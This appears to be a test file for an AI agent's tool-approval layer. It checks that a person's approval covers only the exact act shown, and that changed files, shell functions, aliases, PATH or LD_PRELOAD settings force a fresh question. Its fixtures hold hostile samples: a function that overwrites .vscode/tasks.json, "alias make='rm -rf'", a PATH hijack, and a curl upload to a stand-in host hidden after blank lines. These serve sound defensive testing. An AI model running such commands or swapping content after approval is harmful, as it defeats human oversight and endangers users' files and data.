"""One question means one act: what is shown is what is granted, and what is granted is what runs."""

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handtools import Call, Policy, Reply
from handtools.core.changes import BackupRef, Change, ChangeSet, FolderItem, Node, folder_node
from handtools.core.commands import Command, InheritedShellState
from handtools.core.effects import CommandRun, Delegation, ReadEffect, effect_fingerprint
from handtools.core.events import ApprovalAsked, Decided
from handtools.core.web import Visit
from handtools.mcp.elicitation_and_sampling import approval_question
from handtools.runtime.approval.preview import approval_title, effect_preview, part_that_needs_approval
from handtools.runtime.policy.rules import Rule
from handtools.testing.memory_toolbox import memory_toolbox
from handtools.testing.stubs import CannedOutput, MemoryCommands
from handtools.text.shell import read_script
from handtools.text.shell.script_commands import function_and_alias_names, script_runs_any_named_command

pytestmark = pytest.mark.anyio
PHONE = 40
MAKE = "make () \n{ \n    echo evil > .vscode/tasks.json\n}\n"
YES = Reply(allow=True)


def run(script="make dev", **facts):
    given = {
        name: facts.pop(name) for name in list(facts) if name in InheritedShellState.__dataclass_fields__
    }
    return CommandRun(
        Command(script=script, inherited=InheritedShellState(**given), **facts),
        confined=not facts.get("live"),
    )


class Desk:
    """A toolbox whose session can be changed between a question and its answer."""

    def __init__(self, *scripts, approver=None, rules=()):
        self.commands = MemoryCommands(
            {script: CannedOutput(b"done") for script in scripts}, confined=False
        )
        policy = Policy().with_rules(rules)
        self.box = memory_toolbox(
            {"a/x": b"", "b/x": b""}, commands=self.commands, approver=approver, policy=policy
        )

    def begin_with(self, **facts):
        self.commands.shell_states["s"] = InheritedShellState(**facts)

    def save(self, path, data):
        self.box.workspace.files._set_node(path, Node("file", data))

    async def call(self, script, **args):
        return await self.box.call(Call(tool="bash", args={"command": script, **args}, session="s", id="c"))


CHANGES = {
    "folder": ({"cwd": "a"}, {"cwd": "b"}),
    "a function that it runs": ({}, {"functions": MAKE}),
    "the text of that function": ({"functions": MAKE}, {"functions": MAKE.replace("evil", "good")}),
    "an alias": ({}, {"aliases": "alias make='rm -rf'\n"}),
    "where programs are found": ({}, {"exports": {"PATH": '"/tmp/bin"'}}),
    "a secret": ({"exports": {"API_KEY": '"one"'}}, {"exports": {"API_KEY": '"two"'}}),
    "a variable that is gone": ({}, {"exports": {"VIRTUAL_ENV": None}}),
}


@pytest.mark.parametrize("change", CHANGES)
async def test_a_yes_to_what_has_changed_since_asks_again_and_runs_nothing(change):
    before, after = CHANGES[change]
    desk = Desk("make dev")
    desk.begin_with(**before)
    asked = await desk.call("make dev")
    assert asked.status == "pending"
    desk.begin_with(**after)
    again = await desk.box.resume("c", YES)
    assert again.status == "pending"
    assert desk.commands.commands == []
    assert again.request.fingerprint != asked.request.fingerprint
    assert again.request.title.startswith("Asked again because it changed: ")
    done = await desk.box.resume("c", replace(YES, fingerprint=again.request.fingerprint))
    assert done.ok
    assert len(desk.commands.commands) == 1


@pytest.mark.parametrize(
    "script",
    [
        "sh a/x",
        "./a/x",
        "cd a && sh x",
        "sh < a/x",
        "cat a/x | sh",
        "node --require=./a/x b",
        "python3 'a/x' --fast",
    ],
)
async def test_a_yes_does_not_reach_a_file_that_was_changed_since(script):
    desk = Desk(script)
    asked = await desk.call(script)
    assert "# file: a/x (0 bytes)" in asked.request.preview
    desk.save("a/x", b"echo evil")
    again = await desk.box.resume("c", YES)
    assert again.status == "pending"
    assert again.request.title.startswith("Asked again because it changed: ")
    assert "# file: a/x (9 bytes)" in again.request.preview
    assert desk.commands.commands == []
    assert (await desk.box.resume("c", replace(YES, fingerprint=again.request.fingerprint))).ok


async def test_a_file_that_is_changed_while_a_person_thinks_is_asked_about_again():
    asked = []

    async def approver(approval):
        asked.append(approval.preview)
        if len(asked) == 1:
            desk.save("a/x", b"echo evil")
        return YES

    desk = Desk("sh a/x", approver=approver)
    assert (await desk.call("sh a/x")).ok
    assert ["(0 bytes)" in asked[0], "(9 bytes)" in asked[1], len(asked)] == [True, True, 2]


@pytest.mark.parametrize("script", ["tail a/x", "cat a/x b/x; ls a", "grep -r word a/x", "rm a/x"])
async def test_a_file_that_is_only_looked_at_may_go_on_changing(script):
    desk = Desk(script)
    asked = await desk.call(script)
    assert "# file" not in asked.request.preview
    desk.save("a/x", b"more of the log")
    assert (await desk.box.resume("c", YES)).ok


async def test_a_lasting_yes_is_to_the_words_whatever_the_file_holds():
    desk = Desk("sh a/x")
    await desk.call("sh a/x")
    assert (await desk.box.resume("c", Reply(allow=True, remember="session"))).ok
    desk.save("a/x", b"echo again")
    later = await desk.box.call(Call(tool="bash", args={"command": "sh a/x"}, session="s", id="later"))
    assert later.ok


async def test_settings_that_earlier_commands_left_in_the_home_are_in_the_question():
    desk = Desk("git st")
    asked = await desk.call("git st")
    assert "in home" not in asked.request.preview
    desk.commands.home_files["s"] = ("~/.gitconfig",)
    again = await desk.box.resume("c", YES)
    assert again.status == "pending"
    assert "# left in home (settings, aliases): ~/.gitconfig" in again.request.preview


async def test_the_same_yes_sent_twice_does_not_answer_what_is_asked_again():
    desk = Desk("make dev")
    asked = await desk.call("make dev")
    desk.begin_with(cwd="b")
    for reply in (YES, YES, replace(YES, fingerprint=asked.request.fingerprint)):
        assert (await desk.box.resume("c", reply)).status == "pending"
    assert desk.commands.commands == []


async def test_a_yes_to_what_was_asked_before_is_void_when_it_comes_back():
    desk = Desk("make dev")
    first = await desk.call("make dev")
    desk.begin_with(cwd="b")
    second = await desk.box.resume("c", YES)
    desk.begin_with()
    third = await desk.box.resume("c", replace(YES, fingerprint=second.request.fingerprint))
    assert third.status == "pending"
    assert third.request.fingerprint == first.request.fingerprint


async def test_what_changes_while_a_person_thinks_is_not_what_runs():
    async def approver(approval):
        desk.begin_with(cwd="b", functions=MAKE)
        return YES

    desk = Desk("make dev", approver=approver)
    desk.begin_with(cwd="a")
    assert (await desk.call("make dev")).ok
    [ran] = desk.commands.commands
    assert (ran.cwd, ran.inherited.functions) == ("a", "")


async def test_a_job_that_is_live_is_another_act_and_says_so():
    desk = Desk("make dev")
    asked = await desk.call("make dev", background=True, live=True)
    assert asked.request.title == "bash wants to run live make dev"
    assert "# live: on your files, no undo" in asked.request.preview
    assert effect_fingerprint(run(live=True)) != effect_fingerprint(
        replace(run(live=True), command=run().command)
    )


async def test_a_lasting_yes_does_not_cover_the_same_words_live_or_replaced():
    desk = Desk("make dev")
    await desk.call("make dev")
    assert (await desk.box.resume("c", Reply(allow=True, remember="session"))).ok

    async def wanted(name, **args):
        call = Call(tool="bash", args={"command": "make dev", **args}, session="s", id=name)
        return (await desk.box.call(call)).status

    assert await wanted("same") == "ok"
    assert await wanted("live", background=True, live=True) == "pending"
    desk.begin_with(functions=MAKE)
    assert await wanted("function") == "pending"
    desk.begin_with(exports={"PATH": '"/tmp/bin"'})
    assert await wanted("path") == "pending"


@pytest.mark.parametrize(
    ("left", "reason"),
    [
        ({"functions": "git () \n{ \n    id\n}\n"}, "`git` is a function or alias in this session"),
        ({"aliases": "alias git='id'\n"}, "`git` is a function or alias in this session"),
        ({"exports": {"PATH": '"/w/bin"'}}, "this session has set PATH"),
        ({"exports": {"LD_PRELOAD": '"/w/e.so"'}}, "this session has set LD_PRELOAD"),
    ],
)
async def test_a_rule_about_a_program_does_not_speak_for_what_took_its_name(left, reason):
    desk = Desk("git status", rules=[Rule("look", "allow", "fine", commands=("git status",))])
    assert (await desk.call("git status")).ok
    desk.begin_with(**left)
    asked = await desk.box.call(Call(tool="bash", args={"command": "git status"}, session="s"))
    assert asked.status == "pending"
    assert reason in asked.request.rule


def test_functions_are_shown_when_they_might_run_and_not_otherwise():
    assert "tasks.json" in effect_preview(run(functions=MAKE)).text
    assert "tasks.json" in effect_preview(run("ma''ke dev", functions=MAKE)).text
    assert "tasks.json" in effect_preview(run("$x dev", functions=MAKE)).text
    assert "tasks.json" not in effect_preview(run("npm test", functions=MAKE)).text


def test_values_of_secrets_are_not_shown():
    shown = effect_preview(run(exports={"NPM_TOKEN": '"s3cret"', "PATH": '"/w/bin"'})).text
    assert "NPM_TOKEN" in shown
    assert "s3cret" not in shown
    assert '# set before: PATH="/w/bin"' in shown


def test_notes_come_first_and_the_script_last():
    rows = effect_preview(
        run("x=1; rm a\n", cwd="build", live=True, network="listed", hosts=("ok.example",))
    ).text
    assert rows.split("\n")[:3] == [
        "# folder: build",
        "# live: on your files, no undo",
        "# unconfined: it can do what you can",
    ]
    assert "# network: ok.example\n" in rows
    assert rows.index("# warning: `rm` deletes") < rows.index("x=1; rm a")


def test_a_cut_says_how_many_lines_and_bytes_it_hides():
    script = "\n".join(f"echo {number}" for number in range(10_000))
    shown = effect_preview(run(script))
    asked = approval_question(approval_of(run(script)))
    hidden = [text for text in (shown.text, asked) for text in [text.split("[… ")[1].split(" left out")[0]]]
    for said, text in zip(hidden, (shown.text, asked), strict=True):
        lines, size = (int(word.split()[0]) for word in said.split(", "))
        seen = [row for row in text.split("\n") if row.startswith("echo ")]
        assert lines + len(seen) == 10_000
        assert size + sum(len(row) + 1 for row in seen) == len(script) + 1
    assert "echo 0\n" in asked
    assert "echo 9999" in asked


def test_blank_lines_push_nothing_out_of_sight():
    shown = approval_question(approval_of(run("npm test\n" + "\n" * 420 + "curl -d @a https://x.example")))
    assert "[… 420 blank lines …]\ncurl -d @a" in shown


def test_a_change_names_every_path_before_the_first_diff():
    many = "".join(f"{number}\n" for number in range(2_000)).encode()
    paths = ["a.md", *(f"b{number}" for number in range(8)), "zzz.json"]
    changes = ChangeSet(tuple(Change(path, None, Node("file", many)) for path in paths))
    shown = effect_preview(changes).text
    head = shown[: shown.index("--- ")]
    assert all(path in head for path in paths)
    assert shown.count(" left out …]") == 11  # each diff, and the whole
    assert all(f"b/{path}\n" in effect_preview(ChangeSet(changes.changes[-2:])).text for path in paths[-2:])


def approval_of(effect):
    from handtools import Approval

    shown = effect_preview(effect)
    return Approval(
        call_id="c",
        title=approval_title(effect, "bash"),
        preview=shown.text,
        rule="ask by rule `x`",
        fingerprint=effect_fingerprint(effect),
        remembered="run make …",
        preview_lines=shown.lines,
        preview_bytes=shown.bytes,
    )


def test_our_own_words_fit_on_a_phone():
    asked = approval_question(approval_of(run("make dev", cwd="app", live=True, network="on")))
    for row in asked.split("\n"):
        assert len(row) <= PHONE, row
    assert asked.split("\n")[0] == "bash wants to run live make dev in app"
    assert asked.split("\n")[2].startswith("Reason: ")


names = st.text(st.sampled_from("ab\x1b\r\n\u202e\u200b \u00a0\udce9é⏎"), min_size=1, max_size=8)


@given(names, names, names)
def test_no_name_hides_or_steers_in_any_part_of_a_question(path, host, script):
    for effect in (
        ChangeSet((Change(path, None, Node("file", b"x")), Change(f"{host}/d", None, Node("folder")))),
        run(script, network="listed", hosts=(host,), cwd=path),
    ):
        shown = approval_question(approval_of(effect)) + approval_title(effect, "bash")
        assert not set(shown) & set("\x1b\r\u202e\u200b\u00a0\udce9")


commands = st.builds(
    run,
    st.sampled_from(["make", "npm test", "make\n", "x=1 make"]),
    cwd=st.sampled_from([".", "a", "a\x00b"]),
    functions=st.sampled_from(["", MAKE]),
    aliases=st.sampled_from(["", "alias make='x'\n"]),
    exports=st.dictionaries(st.sampled_from(["PATH", "A", "A_KEY"]), st.sampled_from(["1", "2", None])),
    network=st.sampled_from(["listed", "on"]),
    hosts=st.lists(st.sampled_from(["live", "b", "a, b", "a"]), max_size=2).map(tuple),
    live=st.booleans(),
)


@given(commands, commands)
def test_two_questions_are_the_same_only_when_the_acts_are(one, other):
    def act(effect):
        left, command = effect.inherited, effect.command
        used = script_runs_any_named_command(effect.script, effect.defined)
        hosts = command.hosts if command.network == "listed" else ()
        return (
            command.script, left.cwd, command.network, ", ".join(hosts), command.live, dict(left.exports),
            (left.functions, left.aliases) if used else (),
        )  # fmt: skip

    assert (effect_fingerprint(one) == effect_fingerprint(other)) == (act(one) == act(other))
    if effect_fingerprint(one) == effect_fingerprint(other):
        assert effect_preview(one) == effect_preview(other)


def test_names_of_functions_are_found_as_bash_lists_them():
    listed = "a-b () \n{ \n    x\n}\nfunction if () \n{ \n    y\n}\n"
    assert function_and_alias_names(listed, "alias ll='ls -l'\nalias -- -='cd -'\n") == {
        "a-b",
        "if",
        "ll",
        "-",
    }
    assert script_runs_any_named_command(read_script("echo; a-b"), frozenset({"a-b"}))
    assert not script_runs_any_named_command(read_script("echo a-b"), frozenset({"a-b"}))


@pytest.mark.parametrize(
    "node", [Node("file", b"#!/bin/sh\nevil\n\0"), Node("file", b"", 0o644, BackupRef("r", "m", 9_000_000))]
)
def test_what_is_not_shown_of_a_file_is_said(node):
    assert "bytes, not shown" in effect_preview(ChangeSet((Change(".husky/pre-commit", None, node),))).text


async def test_the_line_ends_that_a_file_has_anyway_are_not_in_the_way():
    edited = Change.of("a", before=b"one\r\ntwo\r\n", after=b"one\r\n2\r\n")
    assert effect_preview(ChangeSet((edited,), "")).text.split("\n")[3:] == [" one", "-two", "+2", ""]


@pytest.mark.parametrize("before", [None, b"one\n", b"one\r\ntwo\n"])
async def test_carriage_returns_that_a_file_has_not_or_not_everywhere_are_shown(before):
    written = Change.of("a", before=before, after=b"one\r\n2\r\n")
    assert "+2␍" in effect_preview(ChangeSet((written,), "")).text


@pytest.mark.parametrize(("count", "end"), [(1, "f0"), (3, "f0, f1, f2"), (4, "f0, f1, f2 and 1 more")])
def test_the_title_counts_what_it_does_not_name(count, end):
    changes = ChangeSet.of(*(Change(f"f{number}", None, Node(b"x")) for number in range(count)))
    assert approval_title(changes, "patch").endswith(end)


@pytest.mark.parametrize(
    ("effect", "text"),
    [
        (Visit(host="x.example", port=443, url="https://x.example/a"), "https://x.example/a"),
        (Visit(host="x.example", port=8080, purpose="look"), "x.example:8080\nlook"),
        (Delegation(title="Find it", prompt="Look everywhere."), "Find it\n\nLook everywhere."),
        (ReadEffect(("a", "b")), "a\nb"),
        (
            ChangeSet((Change("a", Node("file", b"x", 0o644), Node("file", b"x", 0o755)),)),
            "a: mode 0644 -> 0755\n",
        ),
        (
            ChangeSet((Change("a", Node("file", b"x\n", 0o644), Node("file", b"y\n", 0o755)),)),
            "a: mode 0644 -> 0755\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n-x\n+y\n",
        ),
        (
            ChangeSet((Change("a", Node("file", b"x", None), Node("file", b"x", 0o755)),)),
            "a: mode unchanged -> 0755\n",
        ),
        (ChangeSet((Change("d", Node("folder"), None),)), "d: a folder -> nothing\n"),
        (ChangeSet((Change("l", None, Node("link", b"d")),)), "l: nothing -> a symlink to d\n"),
        (
            ChangeSet(
                (
                    Change(
                        "d",
                        folder_node([FolderItem("a", "file", 0o644, "m", 1_200)], mode=0o755, ref="r"),
                        None,
                    ),
                )
            ),
            "d: a folder with 1 entry, 1,200 bytes -> nothing\n",
        ),
    ],
)
def test_the_question_shows_what_it_is_about(effect, text):
    assert effect_preview(effect).text == text


def test_a_change_of_very_many_paths_counts_those_that_it_does_not_name():
    many = [Change(f"f{number}", Node("file", b"12"), None) for number in range(63)]
    shown = effect_preview(ChangeSet(tuple(many))).text
    assert "# deleted: f59 (2 bytes)\n# [… 3 more paths …]\n" in shown


def test_a_very_long_path_has_no_more_than_its_share_of_the_list():
    long, short = (Change(name, None, Node("file", b"x")) for name in ("n" * 500, "a"))
    [row] = [row for row in effect_preview(ChangeSet((long, short))).text.split("\n") if "# new: n" in row]
    assert len(row) == 122


@pytest.mark.parametrize(("answer", "status"), [("allow", "ok"), ("deny", "denied"), ("ask", "pending")])
async def test_where_nobody_is_there_the_policy_answers_or_the_question_waits(answer, status):
    box = memory_toolbox(policy=Policy(unattended=answer))
    result = await box.call("write", {"path": ".envrc", "content": "export A=1\n"})
    assert result.status == status
    assert (box.workspace.files.facts(".envrc") is not None) == (status == "ok")


def test_what_is_left_out_of_the_change_of_a_file_is_counted_with_the_rest():
    data = b"".join(b"line %d\n" % number for number in range(1000))
    changes = ChangeSet(tuple(Change(path, None, Node("file", data)) for path in ("a", "b")))
    shown = effect_preview(changes)
    assert shown.lines > 2000
    assert shown.bytes > 2 * len(data)


async def test_listeners_hear_what_was_decided_and_asked_and_nothing_of_reads_that_are_allowed():
    heard = []
    policy = Policy(unattended="deny", excluded=("hidden",))
    box = memory_toolbox({"a": b"one", "hidden": b"x"}, policy=policy, listeners=[heard.append])
    await box.call("read", {"path": "a"})
    await box.call("write", {"path": "b", "content": "new"})
    await box.call("undo", {"name": "b"})
    await box.call("write", {"path": ".envrc", "content": "export A=1\n"})
    await box.call("write", {"path": "hidden", "content": "y"})
    await box.aclose()
    decided = [(event.verdict, event.targets) for event in heard if isinstance(event, Decided)]
    written, undone = [("allow", ("b",))] * 2
    assert decided == [written, undone, ("ask", (".envrc",)), ("deny", ("hidden",))]
    [asked] = [event for event in heard if isinstance(event, ApprovalAsked)]
    assert ".envrc" in asked.approval.title
    assert asked.reply is not None
    assert not asked.reply.allow


async def test_listeners_hear_once_that_a_read_is_asked_about():
    heard = []
    policy = Policy(
        rules=(Rule("look", "ask", "why", effects=frozenset({"read"}), paths=("a",)),), unattended="allow"
    )
    box = memory_toolbox({"a": b"one"}, policy=policy, listeners=[heard.append])
    assert (await box.call("read", {"path": "a"})).status == "ok"
    await box.aclose()
    decided = [(event.verdict, event.targets) for event in heard if isinstance(event, Decided)]
    assert decided == [("ask", ("a",))]


async def test_a_yes_for_good_to_one_script_is_none_to_another_that_begins_like_it():
    begin = f"make {'a' * 70}; eval $x"
    desk = Desk(f"{begin} 1", f"{begin} 2")
    asked = await desk.call(f"{begin} 1")
    shown = f"run exactly `{begin[:60]}` ["
    assert asked.request.remembered.startswith(shown)
    assert len(asked.request.remembered) == len(shown) + len("0123456789abcdef] (not plain)")
    assert (await desk.box.resume("c", replace(YES, remember="session"))).ok
    for script, status in ((f"{begin} 1", "ok"), (f"{begin} 2", "pending")):
        again = Call(tool="bash", args={"command": script}, session="s", id=script[-1])
        assert (await desk.box.call(again)).status == status


async def test_how_a_question_was_answered_is_kept_for_reports():
    desk = Desk("make dev")
    asked = await desk.call("make dev")
    await desk.box.resume("c", YES)
    [answered] = desk.box.workspace.journal.calls.answered_questions("c")
    assert (answered.title, answered.reply.allow) == (asked.request.title, True)


def test_what_was_defined_before_stands_below_its_name():
    rows = effect_preview(run(functions=MAKE)).text.split("\n")
    assert rows[:2] == ["# defined before:", "#   make () "]


@pytest.mark.parametrize(("lines", "hidden"), [(400, ""), (401, "[… 1 lines, 9 bytes left out …]")])
def test_a_script_is_shown_whole_up_to_400_lines(lines, hidden):
    shown = effect_preview(run("\n".join(f"echo {number}" for number in range(lines)))).text
    assert [row for row in shown.split("\n") if "…" in row] == [hidden] * bool(hidden)


@pytest.mark.parametrize(("more", "shown"), [(0, 40_000), (1, 40_000), (-1, 39_999)])
def test_a_question_has_40_000_bytes_at_most(more, shown):
    note = "# not plain: it is longer than 12,000 characters.\n"
    preview = effect_preview(run("x" * (40_000 - len(note) + more)))
    assert (preview.bytes, preview.shown_bytes) == (40_000 + more, shown)


@pytest.mark.parametrize(("lines", "is_cut"), [(40, False), (41, True)])
def test_a_note_is_shown_whole_up_to_40_lines(lines, is_cut):
    body = "".join(f"echo {number}\n" for number in range(lines - 3))
    shown = effect_preview(run(functions=f"make () \n{{ \n{body}}}\n")).text
    assert ("left out" in shown) == is_cut


@pytest.mark.parametrize(("lines", "is_cut"), [(21, False), (22, True)])
def test_of_many_files_each_shows_24_lines_of_its_diff(lines, is_cut):
    data = b"".join(b"line %d\n" % number for number in range(lines))
    changes = ChangeSet(tuple(Change(f"f{number:02}", None, Node("file", data)) for number in range(20)))
    first = effect_preview(changes).text.split("+++ ")[1]
    assert ("left out" in first) == is_cut


def test_a_change_of_sixty_paths_names_them_all():
    many = [Change(f"f{number}", Node("file", b"12"), None) for number in range(60)]
    assert "more paths" not in effect_preview(ChangeSet(tuple(many))).text


async def test_the_question_shows_the_path_that_needs_approval_and_counts_the_others():
    patch = "".join(f"*** Add File: src/{number}.py\n+x = {number}\n" for number in range(30))
    box = memory_toolbox()
    patch = f"*** Begin Patch\n{patch}*** Add File: .envrc\n+export A=1\n*** End Patch\n"
    request = (await box.call("patch", {"patch": patch})).request
    assert request is not None
    assert request.title == "patch wants to change .envrc"
    assert "+export A=1" in request.preview and ".py" not in request.preview
    assert "# other paths, which need no approval: 31" in request.preview  # 30 files and `src`
    assert len(approval_question(request).splitlines()) <= 15
    assert (await box.resume(request.call_id, Reply(allow=True))).status == "ok"
    assert box.workspace.files.facts("src/29.py") is not None


async def test_a_path_inside_a_folder_that_lands_as_one_is_the_one_that_is_shown():
    inside = [FolderItem(name, "file", 0o644, "m", 1) for name in (".envrc", "a.py", "b.py")]
    landed = ChangeSet((Change("new", None, folder_node(inside, mode=0o755, ref="i/upper/new")),))
    shown = part_that_needs_approval(landed, Policy().decisions(landed, "bash"))
    assert isinstance(shown, ChangeSet) and shown.paths == ("new/.envrc",)
